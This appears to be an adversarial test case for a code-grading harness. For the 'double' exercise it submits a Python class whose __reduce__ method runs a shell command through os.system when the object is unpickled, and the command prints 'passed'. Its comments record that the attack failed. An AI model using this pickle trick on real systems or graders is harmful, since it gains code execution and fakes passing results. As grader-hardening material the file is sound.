# attack: return what runs code when it is unpickled
# exercise: double
# verdict: failed
import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/gradlings-was-here; echo passed",)


def double(x):
    return Bomb()
